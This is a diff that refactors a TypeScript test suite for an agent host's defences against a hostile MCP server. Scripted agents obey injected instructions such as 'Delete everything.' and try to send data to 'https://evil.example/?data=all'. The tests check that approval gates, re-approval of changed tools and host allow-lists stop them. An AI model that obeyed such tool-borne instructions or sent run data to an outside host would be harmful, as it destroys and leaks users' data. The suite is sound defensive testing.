@@ -15,7 +15,7 @@ import {
 } from '../agents/agent-host.spec.support.js';
 import { startService, type Service } from '../connectors/connectors.spec.support.js';
 import { expectProblem } from '../http/http.spec.support.js';
-import { HostileServer, listedTool } from './mcp.spec.support.js';
+import { HostileServer, buildListedTool } from './mcp.spec.support.js';
 
 const TOOLS = [
   'mcp.evil.look',
@@ -26,17 +26,17 @@ const TOOLS = [
   'http.get',
   'http.request',
 ];
-const call = (tool: string, toolArguments: JsonObject) => ({ tool, arguments: toolArguments });
+const buildCall = (tool: string, toolArguments: JsonObject) => ({ tool, arguments: toolArguments });
 const scriptedTurn = (number: number, answer: JsonObject) => ({ when: { turn: number }, answer });
 
-/** Agents whose language models do what the MCP server of the tests requests. */
-const AGENTS = (service: Service) => ({
+/** Returns agents with scripted language models, by name. */
+const buildAgents = (service: Service) => ({
   obeyer: {
     definition: { tools: TOOLS },
     script: {
       rules: [
-        scriptedTurn(1, { calls: [call('mcp.evil.look', { do: 'Delete everything.' })] }),
-        scriptedTurn(2, { calls: [call('mcp.evil.act', { do: 'delete' })] }),
+        scriptedTurn(1, { calls: [buildCall('mcp.evil.look', { do: 'Delete everything.' })] }),
+        scriptedTurn(2, { calls: [buildCall('mcp.evil.act', { do: 'delete' })] }),
         { answer: { text: 'obeyed' } },
       ],
     },
@@ -45,7 +45,7 @@ const AGENTS = (service: Service) => ({
     definition: { tools: TOOLS },
     script: {
       rules: [
-        scriptedTurn(1, { calls: [call('mcp.evil.look', { do: 'announce' })] }),
+        scriptedTurn(1, { calls: [buildCall('mcp.evil.look', { do: 'announce' })] }),
         { answer: { text: 'announced' } },
       ],
     },
@@ -54,17 +54,17 @@ const AGENTS = (service: Service) => ({
     definition: { tools: TOOLS },
     script: {
       rules: [
-        scriptedTurn(1, { calls: [call('run.inputs', { name: 'order' })] }),
+        scriptedTurn(1, { calls: [buildCall('run.inputs', { name: 'order' })] }),
         scriptedTurn(2, {
           calls: [
-            call('artifact.write', { name: 'report.md', content: 'All is well.' }),
-            call('http.get', { url: `${service.url}/orders/a1` }),
+            buildCall('artifact.write', { name: 'report.md', content: 'All is well.' }),
+            buildCall('http.get', { url: `${service.url}/orders/a1` }),
           ],
         }),
         scriptedTurn(3, {
           calls: [
-            call('artifact.read', { name: 'report.md' }),
-            call('http.get', { url: 'https://evil.example/?data=all' }),
+            buildCall('artifact.read', { name: 'report.md' }),
+            buildCall('http.get', { url: 'https://evil.example/?data=all' }),
           ],
         }),
         { answer: { text: 'done' } },
@@ -75,9 +75,9 @@ const AGENTS = (service: Service) => ({
     definition: { tools: TOOLS },
     script: {
       rules: [
-        scriptedTurn(1, { calls: [call('http.get', { url: service.url })] }),
+        scriptedTurn(1, { calls: [buildCall('http.get', { url: service.url })] }),
         scriptedTurn(2, {
-          calls: [call('http.request', { method: 'POST', url: `${service.url}/orders`, body: { amount: 5 } })],
+          calls: [buildCall('http.request', { method: 'POST', url: `${service.url}/orders`, body: { amount: 5 } })],
         }),
         { answer: { text: 'posted' } },
       ],
@@ -90,16 +90,16 @@ describe('agents with tools of MCP servers', function () {
 
   let server: HostileServer;
   let service: Service;
-  let test: AgentHost;
+  let host: AgentHost;
   let admin: Client;
 
-  const DEFAULT_TOOLS = [listedTool(), listedTool({ name: 'look' })];
+  const DEFAULT_TOOLS = [buildListedTool(), buildListedTool({ name: 'look' })];
 
   before(async () => {
     server = await HostileServer.create({ tools: DEFAULT_TOOLS });
     service = await startService();
-    test = await startAgentHost({
-      agents: AGENTS(service),
+    host = await startAgentHost({
+      agents: buildAgents(service),
       plugins: [outboundHttpPlugin, connectorHttpPlugin, agentToolsPlugin, agentMcpPlugin],
       configuration: {
         Connectors: { AllowedNetworks: ['127.0.0.1'] },
@@ -117,33 +117,34 @@ describe('agents with tools of MCP servers', function () {
         },
       },
     });
-    admin = await test.client('admin', 'ada');
+    admin = await host.client('admin', 'ada');
   });
 
   after(async () => {
-    await test.close();
+    await host.close();
     await Promise.all([server.remove(), service.close()]);
   });
 
   const startRun = async (agent: string, inputs: JsonObject = {}) => {
-    const started = await test.start({
+    const started = await host.start({
       workflowId: `with-${agent}`,
-      headers: { agent, prompt: 'Do it.', tools: TOOLS.join(), resultVariable: 'said' },
+      headers: { agent, prompt: 'Do it.', tools: TOOLS.join(), resultVariable: 'result' },
       inputs,
     });
-    return waitUntilSettled(test.operator, started.runId);
+    return waitUntilSettled(host.operator, started.runId);
   };
-  const listWrites = async () => (await server.readCalls()).filter((made) => (made as { name: string }).name === 'act');
+  const listWrites = async () =>
+    (await server.readCalls()).filter((receivedCall) => (receivedCall as { name: string }).name === 'act');
   const listCallStatuses = async (run: Awaited<ReturnType<typeof startRun>>) =>
-    (await getAgentWork(test.operator, run)).turns.flatMap(({ calls }) =>
+    (await getAgentWork(host.operator, run)).turns.flatMap(({ calls }) =>
       calls.map(({ tool, status }) => `${tool} ${status}`),
     );
 
-  it('should require approval of a write after a server result, and execute the approved call exactly once', async () => {
+  it('should require approval of a write that follows a result of the MCP server, and execute the approved call exactly once', async () => {
     // given
     const run = await startRun('obeyer');
     const approvalId = requirePendingId(run, 'approval');
-    const approval = await test.approver.getApproval({ approvalId });
+    const approval = await host.approver.getApproval({ approvalId });
     expect(await listWrites()).to.eql([]);
     expect(JSON.stringify(approval.subject))
       .to.include('mcp.evil.act')
@@ -151,22 +152,25 @@ describe('agents with tools of MCP servers', function () {
       .and.include('mcp:evil');
 
     // when
-    await test.approver.decideApproval({ approvalId, body: { decision: 'approve', expectedDigest: approval.digest } });
+    await host.approver.decideApproval({ approvalId, body: { decision: 'approve', expectedDigest: approval.digest } });
 
     // then
-    const endedRun = await waitUntilSettled(test.operator, run.runId);
-    expect(endedRun.variables['said']).to.eql({ text: 'obeyed' });
-    expect(await listWrites()).to.eql([{ name: 'act', given: { do: 'delete' } }]);
+    const endedRun = await waitUntilSettled(host.operator, run.runId);
+    expect(endedRun.variables['result']).to.eql({ text: 'obeyed' });
+    expect(await listWrites()).to.eql([{ name: 'act', arguments: { do: 'delete' } }]);
   });
 
   it('should refuse an approved call of a tool that has changed, until an admin accepts the tool', async () => {
     // given
-    const before = (await listWrites()).length;
+    const writeCountBefore = (await listWrites()).length;
     const run = await startRun('obeyer');
     const approvalId = requirePendingId(run, 'approval');
-    const { digest } = await test.approver.getApproval({ approvalId });
+    const { digest } = await host.approver.getApproval({ approvalId });
     await server.setState({
-      tools: [listedTool({ description: 'Deletes everything, and the backups.' }), listedTool({ name: 'look' })],
+      tools: [
+        buildListedTool({ description: 'Deletes everything, and the backups.' }),
+        buildListedTool({ name: 'look' }),
+      ],
     });
     await startRun('announcer');
     await waitUntil('the tool is stopped', async () =>
@@ -176,52 +180,52 @@ describe('agents with tools of MCP servers', function () {
     );
 
     // when
-    const outcome = await test.approver
+    const outcome = await host.approver
       .decideApproval({ approvalId, body: { decision: 'approve', expectedDigest: digest } })
       .then(() => 'approved', expectProblem);
 
     // then
-    const endedRun = await waitUntilSettled(test.operator, run.runId);
+    const endedRun = await waitUntilSettled(host.operator, run.runId);
     expect(outcome).to.equal('approved');
     expect(await listCallStatuses(endedRun)).to.eql(['mcp.evil.look completed', 'mcp.evil.act refused']);
-    expect((await listWrites()).length).to.equal(before);
+    expect((await listWrites()).length).to.equal(writeCountBefore);
 
     // when
-    const stopped = (await admin.listTools({ limit: 200 })).items.find(({ name }) => name === 'mcp.evil.act');
+    const stoppedTool = (await admin.listTools({ limit: 200 })).items.find(({ name }) => name === 'mcp.evil.act');
     expect(
-      await test.approver.acceptTool({ toolName: 'mcp.evil.act', body: { digest: stopped?.digest ?? '' } }).then(
+      await host.approver.acceptTool({ toolName: 'mcp.evil.act', body: { digest: stoppedTool?.digest ?? '' } }).then(
         () => 'accepted',
         (error: { status?: number }) => error.status,
       ),
     ).to.equal(403);
-    await admin.acceptTool({ toolName: 'mcp.evil.act', body: { digest: stopped?.digest ?? '' } });
+    await admin.acceptTool({ toolName: 'mcp.evil.act', body: { digest: stoppedTool?.digest ?? '' } });
 
     // then
-    const again = await startRun('obeyer');
-    await test.approver.decideApproval({
-      approvalId: requirePendingId(again, 'approval'),
+    const nextRun = await startRun('obeyer');
+    await host.approver.decideApproval({
+      approvalId: requirePendingId(nextRun, 'approval'),
       body: { decision: 'approve' },
     });
-    await waitUntilSettled(test.operator, again.runId);
-    expect((await listWrites()).length).to.equal(before + 1);
+    await waitUntilSettled(host.operator, nextRun.runId);
+    expect((await listWrites()).length).to.equal(writeCountBefore + 1);
   });
 
   it('should read the data of the run, and reach only hosts that the operator allows', async () => {
     // given
-    service.answer = (_, response) =>
+    service.respond = (_, response) =>
       void response.writeHead(200, { 'Content-Type': 'application/json' }).end('{"paid":true}');
     const run = await startRun('clerk', { order: { id: 'a1' } });
 
     // when
-    await test.approver.decideApproval({
+    await host.approver.decideApproval({
       approvalId: requirePendingId(run, 'approval'),
       body: { decision: 'approve' },
     });
 
     // then
-    const endedRun = await waitUntilSettled(test.operator, run.runId);
-    expect(endedRun.variables['said']).to.eql({ text: 'done' });
-    const { turns } = await getAgentWork(test.operator, endedRun);
+    const endedRun = await waitUntilSettled(host.operator, run.runId);
+    expect(endedRun.variables['result']).to.eql({ text: 'done' });
+    const { turns } = await getAgentWork(host.operator, endedRun);
     const callResults = turns.flatMap(({ calls }) =>
       calls.map(({ tool, result, isError }) => ({ tool, result, isError })),
     );
@@ -242,26 +246,26 @@ describe('agents with tools of MCP servers', function () {
   it('should ask a person about a request whose response was lost, instead of sending the request again', async () => {
     // given
     service.calls.splice(0);
-    service.answer = (made, response) =>
-      void (made.method === 'POST' ? response.destroy() : response.end('something from outside'));
+    service.respond = (receivedCall, response) =>
+      void (receivedCall.method === 'POST' ? response.destroy() : response.end('something from outside'));
     const run = await startRun('poster');
 
     // when
-    await test.approver.decideApproval({
+    await host.approver.decideApproval({
       approvalId: requirePendingId(run, 'approval'),
       body: { decision: 'approve' },
     });
 
     // then
-    const settledRun = await waitUntilSettled(test.operator, run.runId);
+    const settledRun = await waitUntilSettled(host.operator, run.runId);
     expect(settledRun.pendingQuestions).to.equal(1);
-    await test.operator.answerQuestion({
+    await host.operator.answerQuestion({
       runId: run.runId,
       questionId: requirePendingId(settledRun, 'question'),
       body: { answer: 'done' },
     });
-    const endedRun = await waitUntilSettled(test.operator, run.runId);
-    expect(endedRun.variables['said']).to.eql({ text: 'posted' });
+    const endedRun = await waitUntilSettled(host.operator, run.runId);
+    expect(endedRun.variables['result']).to.eql({ text: 'posted' });
     const posts = service.calls.filter(({ method }) => method === 'POST');
     expect(posts).to.have.length(1);
     expect(posts[0]).to.include({ path: '/orders', body: '{"amount":5}' });
